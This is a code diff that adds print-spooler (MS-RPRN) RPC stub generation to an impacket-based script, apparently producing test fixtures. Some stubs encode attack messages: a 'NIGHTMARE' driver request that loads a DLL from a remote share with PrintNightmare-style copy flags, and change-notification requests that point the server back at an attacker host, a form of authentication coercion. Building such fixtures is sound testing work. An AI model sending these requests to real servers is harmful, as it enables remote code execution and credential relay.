@@ -332,9 +332,331 @@ def efsrpc():
     put("efsrpc", "EncryptFileExSrv.request", c)
 
 
+# ---------------------------------------------------------------- winspool ([MS-RPRN] 6)
+
+from impacket.dcerpc.v5 import rprn  # noqa: E402
+from impacket.dcerpc.v5.dtypes import FILETIME, ULONGLONG, USHORT  # noqa: E402
+
+
+class WCHAR_ARRAY(NDRUniConformantArray):
+    item = "<H"
+
+
+class PWCHAR_ARRAY(NDRPOINTER):
+    referent = (("Data", WCHAR_ARRAY),)
+
+
+_INFO_3 = (("cVersion", DWORD), ("pName", LPWSTR), ("pEnvironment", LPWSTR),
+           ("pDriverPath", LPWSTR), ("pDataFile", LPWSTR), ("pConfigFile", LPWSTR),
+           ("pHelpFile", LPWSTR), ("pMonitorName", LPWSTR), ("pDefaultDataType", LPWSTR),
+           ("cchDependentFiles", DWORD), ("pDependentFiles", PWCHAR_ARRAY))
+_INFO_4 = _INFO_3 + (("cchPreviousNames", DWORD), ("pszzPreviousNames", PWCHAR_ARRAY))
+_INFO_6 = _INFO_4 + (("ftDriverDate", FILETIME), ("dwlDriverVersion", ULONGLONG),
+                     ("pMfgName", LPWSTR), ("pOEMUrl", LPWSTR), ("pHardwareID", LPWSTR),
+                     ("pProvider", LPWSTR))
+_INFO_8 = _INFO_6 + (("pPrintProcessor", LPWSTR), ("pVendorSetup", LPWSTR),
+                     ("cchColorProfiles", DWORD), ("pszzColorProfiles", PWCHAR_ARRAY),
+                     ("pInfPath", LPWSTR), ("dwPrinterDriverAttributes", DWORD),
+                     ("cchCoreDependencies", DWORD), ("pszzCoreDriverDependencies", PWCHAR_ARRAY),
+                     ("ftMinInboxDriverVerDate", FILETIME),
+                     ("dwlMinInboxDriverVerVersion", ULONGLONG))
+
+
+class RPC_DRIVER_INFO_3(NDRSTRUCT):
+    structure = _INFO_3
+
+
+class RPC_DRIVER_INFO_4(NDRSTRUCT):
+    structure = _INFO_4
+
+
+class RPC_DRIVER_INFO_6(NDRSTRUCT):
+    structure = _INFO_6
+
+
+class RPC_DRIVER_INFO_8(NDRSTRUCT):
+    structure = _INFO_8
+
+
+class PRPC_DRIVER_INFO_3(NDRPOINTER):
+    referent = (("Data", RPC_DRIVER_INFO_3),)
+
+
+class PRPC_DRIVER_INFO_4(NDRPOINTER):
+    referent = (("Data", RPC_DRIVER_INFO_4),)
+
+
+class PRPC_DRIVER_INFO_6(NDRPOINTER):
+    referent = (("Data", RPC_DRIVER_INFO_6),)
+
+
+class PRPC_DRIVER_INFO_8(NDRPOINTER):
+    referent = (("Data", RPC_DRIVER_INFO_8),)
+
+
+# impacket's DRIVER_INFO_UNION has levels 1 and 2 only; the others per [MS-RPRN] 2.2.1.2.3.
+rprn.DRIVER_INFO_UNION.union.update({3: ("Level3", PRPC_DRIVER_INFO_3),
+                                     4: ("Level4", PRPC_DRIVER_INFO_4),
+                                     6: ("Level6", PRPC_DRIVER_INFO_6),
+                                     8: ("Level8", PRPC_DRIVER_INFO_8)})
+
+
+# impacket's SPLCLIENT_INFO_3 names dwFlags twice (no dwSize); declared here per 2.2.1.11.3.
+class SPLCLIENT_INFO_3(NDRSTRUCT):
+    structure = (("cbSize", DWORD), ("dwFlags", DWORD), ("dwSize", DWORD),
+                 ("pMachineName", LPWSTR), ("pUserName", LPWSTR), ("dwBuildNum", DWORD),
+                 ("dwMajorVersion", DWORD), ("dwMinorVersion", DWORD),
+                 ("wProcessorArchitecture", USHORT), ("hSplPrinter", ULONGLONG))
+
+
+class PSPLCLIENT_INFO_3(NDRPOINTER):
+    referent = (("Data", SPLCLIENT_INFO_3),)
+
+
+rprn.CLIENT_INFO_UNION.union[3] = ("pNotUsed2", PSPLCLIENT_INFO_3)
+
+
+# impacket's RPC_V2_NOTIFY_OPTIONS points pTypes at one structure; it is an array (2.2.1.13.1).
+class NOTIFY_TYPES(NDRUniConformantArray):
+    item = rprn.RPC_V2_NOTIFY_OPTIONS_TYPE
+
+
+class PNOTIFY_TYPES(NDRPOINTER):
+    referent = (("Data", NOTIFY_TYPES),)
+
+
+class RPC_V2_NOTIFY_OPTIONS(NDRSTRUCT):
+    structure = (("Version", DWORD), ("Reserved", DWORD), ("Count", DWORD),
+                 ("pTypes", PNOTIFY_TYPES))
+
+
+class PRPC_V2_NOTIFY_OPTIONS(NDRPOINTER):
+    referent = (("Data", RPC_V2_NOTIFY_OPTIONS),)
+
+
+class RpcRemoteFindFirstPrinterChangeNotificationEx(NDRCALL):
+    opnum = 65
+    structure = (("hPrinter", rprn.PRINTER_HANDLE), ("fdwFlags", DWORD), ("fdwOptions", DWORD),
+                 ("pszLocalMachine", LPWSTR), ("dwPrinterLocal", DWORD),
+                 ("pOptions", PRPC_V2_NOTIFY_OPTIONS))
+
+
+class RpcAddPrinterDriver(NDRCALL):
+    opnum = 9
+    structure = (("pName", rprn.STRING_HANDLE), ("pDriverContainer", rprn.DRIVER_CONTAINER))
+
+
+class RpcRemoteFindFirstPrinterChangeNotification(NDRCALL):
+    opnum = 62
+    structure = (("hPrinter", rprn.PRINTER_HANDLE), ("fdwFlags", DWORD), ("fdwOptions", DWORD),
+                 ("pszLocalMachine", LPWSTR), ("dwPrinterLocal", DWORD), ("cbBuffer", DWORD),
+                 ("pBuffer", rprn.PBYTE_ARRAY))
+
+
+class RpcRemoteFindFirstPrinterChangeNotificationResponse(NDRCALL):
+    structure = (("pBuffer", rprn.PBYTE_ARRAY), ("ErrorCode", ULONG))
+
+
+def multi_sz(*names):
+    return [ord(c) for c in "".join(n + "\x00" for n in names) + "\x00"]
+
+
+def driver_info(level, ndr64=False, **fields):
+    cls = {3: RPC_DRIVER_INFO_3, 4: RPC_DRIVER_INFO_4, 6: RPC_DRIVER_INFO_6,
+           8: RPC_DRIVER_INFO_8}.get(level, rprn.DRIVER_INFO_2)
+    d = cls(isNDR64=ndr64)
+    for name, _ in cls.structure:
+        if name.startswith("psz") or name == "pDependentFiles":
+            if name not in fields:
+                d[name] = NULL
+            else:
+                d[name] = fields[name]
+                count = {"pDependentFiles": "cchDependentFiles",
+                         "pszzCoreDriverDependencies": "cchCoreDependencies"}.get(
+                    name, "cch" + name[4:])
+                d[count] = len(fields[name])
+        elif name.startswith("p"):
+            d[name] = fields[name] + "\x00" if name in fields else NULL
+    d["cVersion"] = 3
+    if "dwlDriverVersion" in d.fields:
+        d["dwlDriverVersion"] = 0x000A000000004A61
+        d["ftDriverDate"]["dwLowDateTime"] = 0xD53B8000
+        d["ftDriverDate"]["dwHighDateTime"] = 0x01C9E2E3
+    return d
+
+
+NIGHTMARE = {
+    "pName": "1234",
+    "pEnvironment": "Windows x64",
+    "pDriverPath": "C:\\Windows\\System32\\DriverStore\\FileRepository\\ntprint.inf_amd64\\"
+                   "Amd64\\UNIDRV.DLL",
+    "pDataFile": "\\\\10.0.0.5\\share\\nightmare.dll",
+    "pConfigFile": "C:\\Windows\\System32\\kernelbase.dll",
+}
+
+
+def spoolss():
+    c = rprn.RpcOpenPrinter()
+    c["pPrinterName"] = "\\\\dc01\x00"
+    c["pDatatype"] = NULL
+    c["pDevModeContainer"]["pDevMode"] = NULL
+    c["AccessRequired"] = rprn.SERVER_READ
+    put("spoolss", "OpenPrinter.request", c)
+    c = rprn.RpcOpenPrinterResponse()
+    c["pHandle"] = bytes(range(20))
+    c["ErrorCode"] = 0
+    put("spoolss", "OpenPrinter.response", c)
+
+    for ndr64 in (False, True):
+        c = rprn.RpcOpenPrinterEx(isNDR64=ndr64)
+        c["pPrinterName"] = "\\\\10.0.0.1\x00"
+        c["pDatatype"] = "RAW\x00"
+        c["pDevModeContainer"]["cbBuf"] = 4
+        c["pDevModeContainer"]["pDevMode"] = list(b"\x01\x02\x03\x04")
+        c["AccessRequired"] = 0x00020002
+        c["pClientInfo"]["Level"] = 1
+        c["pClientInfo"]["ClientInfo"]["tag"] = 1
+        info = rprn.SPLCLIENT_INFO_1(isNDR64=ndr64)
+        info["dwSize"] = 28
+        info["pMachineName"] = "attacker-pc\x00"
+        info["pUserName"] = "eve\x00"
+        info["dwBuildNum"] = 7600
+        info["dwMajorVersion"] = 3
+        info["dwMinorVersion"] = 0
+        info["wProcessorArchitecture"] = 9
+        c["pClientInfo"]["ClientInfo"]["pClientInfo1"] = info
+        put("spoolss", "OpenPrinterEx.request" + (".ndr64" if ndr64 else ""), c)
+    c = rprn.RpcOpenPrinterEx()
+    c["pPrinterName"] = NULL
+    c["pDatatype"] = NULL
+    c["pDevModeContainer"]["pDevMode"] = NULL
+    c["AccessRequired"] = 8
+    c["pClientInfo"]["Level"] = 3
+    c["pClientInfo"]["ClientInfo"]["tag"] = 3
+    info = SPLCLIENT_INFO_3()
+    info["cbSize"] = 48
+    info["dwSize"] = 28
+    info["pMachineName"] = "ws01\x00"
+    info["pUserName"] = "CORP\\carol\x00"
+    info["dwBuildNum"] = 19041
+    info["dwMajorVersion"] = 10
+    info["wProcessorArchitecture"] = 9
+    info["hSplPrinter"] = 0x1122334455667788
+    c["pClientInfo"]["ClientInfo"]["pNotUsed2"] = info
+    put("spoolss", "OpenPrinterEx.request.level3", c)
+
+    c = rprn.RpcClosePrinter()
+    c["phPrinter"] = bytes(range(20))
+    put("spoolss", "ClosePrinter.request", c)
+    c = rprn.RpcClosePrinterResponse()
+    c["phPrinter"] = b"\x00" * 20
+    c["ErrorCode"] = 0
+    put("spoolss", "ClosePrinter.response", c)
+
+    c = RpcRemoteFindFirstPrinterChangeNotification()
+    c["hPrinter"] = bytes(range(20))
+    c["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
+    c["fdwOptions"] = 0
+    c["pszLocalMachine"] = "\\\\attacker.corp.local\x00"
+    c["dwPrinterLocal"] = 0
+    c["cbBuffer"] = 0
+    c["pBuffer"] = NULL
+    put("spoolss", "RemoteFindFirstPrinterChangeNotification.request", c)
+    c = RpcRemoteFindFirstPrinterChangeNotificationResponse()
+    c["pBuffer"] = NULL
+    c["ErrorCode"] = 0x6ba
+    put("spoolss", "RemoteFindFirstPrinterChangeNotification.response", c)
+
+    c = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
+    c["hPrinter"] = bytes(range(20))
+    c["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
+    c["fdwOptions"] = 0
+    c["pszLocalMachine"] = "\\\\10.0.0.5\x00"
+    c["dwPrinterLocal"] = 0
+    c["pOptions"] = NULL
+    put("spoolss", "RemoteFindFirstPrinterChangeNotificationEx.request", c)
+    c = RpcRemoteFindFirstPrinterChangeNotificationEx()
+    c["hPrinter"] = bytes(range(20))
+    c["fdwFlags"] = 0
+    c["fdwOptions"] = 0
+    c["pszLocalMachine"] = "\\\\10.0.0.6\x00"
+    c["dwPrinterLocal"] = 7
+    opts = RPC_V2_NOTIFY_OPTIONS()
+    opts["Version"] = 2
+    opts["Reserved"] = 0
+    opts["Count"] = 1
+    t = rprn.RPC_V2_NOTIFY_OPTIONS_TYPE()
+    t["Type"] = 1
+    t["Count"] = 2
+    t["pFields"] = [0x0d, 0x0e]
+    opts["pTypes"] = [t]
+    c["pOptions"] = opts
+    put("spoolss", "RemoteFindFirstPrinterChangeNotificationEx.request.options", c)
+    c = rprn.RpcRemoteFindFirstPrinterChangeNotificationExResponse()
+    c["ErrorCode"] = 5
+    put("spoolss", "RemoteFindFirstPrinterChangeNotificationEx.response", c)
+
+    for level, ex, ndr64 in [(lv, ex, False) for lv in (2, 3, 4, 6, 8) for ex in (True, False)] + [
+            (2, True, True), (8, True, True)]:
+        if True:
+            c = rprn.RpcAddPrinterDriverEx(isNDR64=ndr64) if ex else RpcAddPrinterDriver()
+            c["pName"] = "\\\\dc01\x00" if level != 3 else NULL
+            c["pDriverContainer"]["Level"] = level
+            c["pDriverContainer"]["DriverInfo"]["tag"] = level
+            fields = dict(NIGHTMARE)
+            if level >= 3:
+                fields.update(pHelpFile="help.hlp", pMonitorName="mon",
+                              pDependentFiles=multi_sz("a.dll", "b.dll"))
+            if level >= 4:
+                fields.update(pszzPreviousNames=multi_sz("Old Driver"))
+            if level >= 6:
+                fields.update(pMfgName="Contoso", pOEMUrl="http://x", pProvider="Contoso Ltd")
+            if level == 8:
+                fields.update(pPrintProcessor="winprint", pInfPath="C:\\x.inf",
+                              pszzCoreDriverDependencies=multi_sz("{D20EA372-DD35-4950}"))
+            arm = {2: "Level2", 3: "Level3", 4: "Level4", 6: "Level6", 8: "Level8"}[level]
+            c["pDriverContainer"]["DriverInfo"][arm] = driver_info(level, ndr64, **fields)
+            if ex:
+                c["dwFileCopyFlags"] = rprn.APD_COPY_ALL_FILES | 0x10 | 0x8000
+            put("spoolss", f"AddPrinterDriver{'Ex' if ex else ''}.request.level{level}"
+                + (".ndr64" if ndr64 else ""), c)
+    c = rprn.RpcAddPrinterDriverExResponse()
+    c["ErrorCode"] = 0
+    put("spoolss", "AddPrinterDriverEx.response", c)
+
+    c = rprn.RpcEnumPrinterDrivers()
+    c["pName"] = NULL
+    c["pEnvironment"] = "Windows x64\x00"
+    c["Level"] = 2
+    c["pDrivers"] = NULL
+    c["cbBuf"] = 0
+    put("spoolss", "EnumPrinterDrivers.request", c)
+    c = rprn.RpcEnumPrinterDriversResponse()
+    c["pDrivers"] = list(b"\x00" * 8)
+    c["pcbNeeded"] = 2400
+    c["pcReturned"] = 3
+    c["ErrorCode"] = 0
+    put("spoolss", "EnumPrinterDrivers.response", c)
+
+    c = rprn.RpcGetPrinterDriverDirectory()
+    c["pName"] = "\\\\dc01\x00"
+    c["pEnvironment"] = "Windows x64\x00"
+    c["Level"] = 1
+    c["pDriverDirectory"] = list(b"\x00" * 16)
+    c["cbBuf"] = 16
+    put("spoolss", "GetPrinterDriverDirectory.request", c)
+    c = rprn.RpcGetPrinterDriverDirectoryResponse()
+    d = "C:\\Windows\\system32\\spool\\DRIVERS\\x64\x00".encode("utf-16le")
+    c["pDriverDirectory"] = list(d)
+    c["pcbNeeded"] = len(d)
+    c["ErrorCode"] = 0
+    put("spoolss", "GetPrinterDriverDirectory.response", c)
+
+
 def main():
     random.seed(1472)
     efsrpc()
+    spoolss()
     for iface, cases in OUT.items():
         with open(os.path.join(HERE, f"{iface}_stubs.json"), "w") as f:
             json.dump({"generator": "make_stubs_ad.py, impacket " + version.version,
